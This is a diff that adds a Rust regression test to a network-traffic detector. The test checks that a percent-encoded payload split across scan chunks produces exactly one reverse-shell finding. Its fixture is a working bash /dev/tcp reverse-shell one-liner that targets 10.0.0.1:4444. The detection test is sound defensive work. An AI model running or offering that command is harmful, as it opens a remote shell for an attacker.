@@ -332,3 +332,33 @@ fn a_pem_key_near_percent_escapes_is_one_finding() {
         "{found:?}"
     );
 }
+
+/// A percent-encoded body longer than the encoded carry-over (8 KiB) is one
+/// decoded region: the carry is cut inside it, 8 KiB back. Cut inside a
+/// short command on one line, the next scan decoded the rest of that line
+/// and reported `5<>/dev/tcp/…` a second time, without its `exec`, under
+/// another fingerprint (a `body_split` fuzz case). Every cut that puts the
+/// carry's start inside that line agrees with the whole body.
+#[test]
+fn a_carry_cut_inside_a_long_percent_encoded_region_reports_no_second_match() {
+    let command = "exec 5<>/dev/tcp/10.0.0.1/4444;cat <&5 | while read l; do $l 2>&5 >&5; done";
+    let mut body = format!("g\n{}\n", percent_all(command));
+    let line = 2..body.len() - 1;
+    while body.len() < 12 * 1024 {
+        body.push_str(&percent_all("The quick brown fox jumps over the lazy dog."));
+        body.push('\n');
+    }
+    let d = detector();
+    let whole = scan(&d, Direction::Inbound, &[body.as_bytes()]);
+    assert!(
+        whole
+            .iter()
+            .any(|(rule, _)| rule == "reverse_shell_dev_tcp"),
+        "{whole:?}"
+    );
+    let carry = traffic_guardian::core::scan::ENCODED_CARRY_BYTES;
+    for cut in line.start + carry - 8..line.end + carry + 8 {
+        let (a, b) = body.as_bytes().split_at(cut);
+        assert_eq!(scan(&d, Direction::Inbound, &[a, b]), whole, "cut at {cut}");
+    }
+}
